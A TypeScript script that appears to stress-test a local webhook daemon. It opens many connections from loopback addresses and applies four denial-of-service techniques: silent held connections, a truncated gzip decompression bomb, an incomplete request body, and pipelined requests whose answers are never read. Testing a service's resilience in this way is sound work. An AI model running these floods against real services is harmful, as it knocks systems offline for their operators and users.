/**
 * Attacks a daemon from a separate process: `attack.ts KIND URL CONNECTIONS`. Opens the connections, from ten
 * addresses of this machine, prints how many it opened, and holds those that stay open until it is killed.
 */
import { connect, type Socket } from 'node:net'
import { gzipSync } from 'node:zlib'

const ADDRESSES = 10
/** Connections opened at a time. */
const AT_ONCE = 50

const head = (path: string, ...lines: string[]): string =>
  [`POST ${path} HTTP/1.1`, 'Host: x', 'Content-Type: application/json', ...lines, '', ''].join('\r\n')

const packed = gzipSync(`{"a":[${'1,'.repeat(524_000)}1]}`, { level: 9 })

/** What each connection sends without finishing, or without reading answers. */
const KINDS: Readonly<Record<string, Buffer>> = {
  silent: Buffer.alloc(0),
  gzip: Buffer.concat([
    Buffer.from(head('/webhooks/gateway/1/dlr', 'Content-Encoding: gzip', 'Content-Length: 2048')),
    Buffer.concat([packed], 2047),
  ]),
  body: Buffer.from(`${head('/webhooks/gateway/1/dlr', 'Content-Length: 65536')}${'x'.repeat(65_535)}`),
  unread: Buffer.from('GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(100)),
}

const [kind = '', url = '', count = '0'] = process.argv.slice(2)
const bytes = KINDS[kind]
if (!bytes) throw new Error(`There is no attack ${kind}; there are ${Object.keys(KINDS).join(', ')}.`)
const { hostname: host, port } = new URL(url)
let [opened, refused] = [0, 0]
const held = new Set<Socket>()

const open = (n: number): Promise<void> =>
  new Promise(resolve => {
    const localAddress = `127.0.1.${1 + (n % ADDRESSES)}`
    const socket = connect({ host, port: Number(port), localAddress }, () => {
      opened++
      held.add(socket)
      socket.write(bytes)
      socket.pause()
      resolve()
    })
    socket.once('error', () => {
      refused++
      resolve()
    })
    socket.once('close', () => held.delete(socket))
  })

for (let n = 0; n < Number(count); n += AT_ONCE)
  await Promise.all(Array.from({ length: Math.min(AT_ONCE, Number(count) - n) }, (_, i) => open(n + i)))
console.log(JSON.stringify({ opened, refused }))
setInterval(() => undefined, 1_000)
